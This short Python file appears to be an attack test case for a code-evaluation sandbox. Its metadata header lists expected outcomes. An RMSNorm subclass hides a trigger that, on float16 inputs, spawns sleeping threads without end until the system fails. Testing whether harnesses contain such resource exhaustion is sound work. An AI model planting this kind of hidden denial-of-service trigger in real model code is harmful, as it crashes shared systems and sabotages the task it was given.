# /// attack
# tries = "starts threads until it may not any more, none of which ends"
# rides = true
# marks = "reference"
# seconds = 40
# outcomes = ["exception", "out_of_memory", "timeout"]
# ///

import threading
import time


class RMSNorm(RMSNorm):
    def forward(self, x):
        if x.dtype == torch.float16:
            while True:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        return super().forward(x)
